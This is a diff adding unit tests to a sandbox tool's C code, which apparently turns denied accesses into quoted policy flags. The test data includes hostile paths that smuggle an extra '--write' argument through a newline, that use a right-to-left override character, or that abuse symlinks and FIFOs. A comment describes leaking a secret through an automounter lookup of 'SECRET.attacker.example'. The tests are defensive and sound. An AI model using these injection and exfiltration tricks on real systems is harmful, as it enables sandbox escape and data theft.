@@ -2,6 +2,7 @@
 /* From denials to few lines: tables of what was denied and what is named. What is denied at all is
  * shown by tests/e2e/test-run-explain.sh, with a sandbox. */
 #include <elf.h>
+#include <fcntl.h>
 #include <setjmp.h>
 #include <stdarg.h>
 #include <stddef.h>
@@ -9,6 +10,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
 #include <cmocka.h>
@@ -72,6 +74,20 @@ static const struct row rows[] = {
 		{ "--read '/srv/a b/it'\\''s'" } },
 	{ "wildcards that are none", { "r /srv/a*/", "r /srv/[b]" },
 		{ "--read '/srv/\\[b\\]'", "--read '/srv/a\\*/**'" } },
+	{ "a variable that is none", { "r /srv/$HOME", "w /srv/$HOME/" },
+		{ "--write '/srv/\\$HOME/**'" } },
+	{ "what cannot be seen is spelled out", { "r /srv/a\n--write '/\\" },
+		{ "--read $'/srv/a\\012--write \\'/\\\\\\\\'" } },
+	{ "what reads the other way round",
+		{ "r /srv/\xe2\x80\xae"
+		  "txt.a" },
+		{ "--read $'/srv/\\342\\200\\256txt.a'" } },
+	{ "a program is itself only", { "x /srv/bin/*", "x /srv/$HOME", "x /srv/a b:*" },
+		{ "--exec '/srv/a\\ b:\\*'", "--exec '/srv/\\$HOME'", "--exec '/srv/bin/\\*'" } },
+	{ "a program by a name that would be a pattern", { "x /usr/bin/[" }, { "--exec '\\['" } },
+	{ "homes of others", { "r /home/v/", "w /root/", "r /home/v/d/" },
+		{ "--read /home/v/d", "", "" } },
+	{ "a socket that no policy can name", { "c unix:/run/*" }, { "" } },
 	{ "a host", { "c api.example.com:8443" }, { "--net api.example.com:8443" } },
 	{ "a socket", { "c unix:/run/door" }, { "--net unix:/run/door" } },
 };
@@ -337,6 +353,68 @@ static void finds_interpreters(void **state)
 	assert_int_equal(run_explain_interpreter(path, out), EXPLAIN_NO_INTERPRETER);
 }
 
+/* A command may put something else in its place, after it was looked at: what that leads to, or is,
+ * must not be opened for it. */
+static void opens_plain_files_only(void **state)
+{
+	char folder[] = "/tmp/corral-explain-XXXXXX", file[64], path[64], out[PATH_BYTES];
+	int fd;
+
+	(void)state;
+	assert_non_null(mkdtemp(folder));
+	(void)snprintf(file, sizeof(file), "%s/file", folder);
+	(void)snprintf(path, sizeof(path), "%s/path", folder);
+	fd = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
+	assert_true(fd >= 0);
+	assert_int_equal(write(fd, "#!/bin/sh\n", 10), 10);
+	close(fd);
+	assert_int_equal(run_explain_interpreter(file, out), EXPLAIN_SCRIPT);
+	assert_int_equal(symlink(file, path), 0);
+	assert_int_equal(run_explain_interpreter(path, out), EXPLAIN_NO_INTERPRETER);
+	assert_int_equal(unlink(path), 0);
+	assert_int_equal(mkfifo(path, 0600), 0);
+	fd = open(path, O_RDWR | O_CLOEXEC);
+	assert_int_equal(write(fd, "#!/bin/sh\n", 10), 10);
+	assert_int_equal(run_explain_interpreter(path, out), EXPLAIN_NO_INTERPRETER);
+	close(fd);
+	assert_int_equal(unlink(path), 0);
+	assert_int_equal(unlink(file), 0);
+	assert_int_equal(rmdir(folder), 0);
+}
+
+/* The attack: "stat /net/SECRET.attacker.example/x", where the host's automounter asks for it. */
+static void knows_names_that_act(void **state)
+{
+	static const char list[] = "22 1 8:1 / / rw,relatime shared:1 - ext4 /dev/sda1 rw\n"
+				   "30 22 0:5 / /net rw - autofs -hosts rw,fd=7\n"
+				   "31 30 0:6 / /net/known rw shared:2 master:3 - nfs known:/ rw\n"
+				   "32 22 0:7 / /mnt/the\\040nas rw - autofs systemd-1 rw\n"
+				   "33 22 0:8 / /home rw - autofs auto.home rw\n"
+				   "34 33 0:9 / /home rw - nfs4 server:/home rw\n"
+				   "35 22 0:9 / /afs rw - afs none rw\n"
+				   "36 22 0:9 / /broken rw\n"
+				   "37 22\n";
+	static const struct {
+		const char *path;
+		bool acts;
+	} paths[] = { { "/", false }, { "/net", true }, { "/net/secret.example/x", true },
+		{ "/network", false }, { "/net/known/x", false }, { "/mnt/the nas/x", true },
+		{ "/mnt", false }, { "/home/u", false }, { "/afs/cell.example", true },
+		{ "/broken", false } };
+	auto_arena a = { 0 };
+	struct explain_mounts m;
+
+	(void)state;
+	assert_int_equal(run_explain_mounts_read(&m, &a, list), 0);
+	for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
+		if (run_explain_mounts_act(&m, paths[i].path) != paths[i].acts)
+			print_error("%s\n", paths[i].path);
+		assert_int_equal(run_explain_mounts_act(&m, paths[i].path), paths[i].acts);
+	}
+	assert_int_equal(run_explain_mounts_read(&m, &a, ""), 0);
+	assert_false(run_explain_mounts_act(&m, "/net/x"));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -344,6 +422,8 @@ int main(void)
 		cmocka_unit_test(hears_hosts),
 		cmocka_unit_test(keeps_a_bound),
 		cmocka_unit_test(finds_interpreters),
+		cmocka_unit_test(opens_plain_files_only),
+		cmocka_unit_test(knows_names_that_act),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
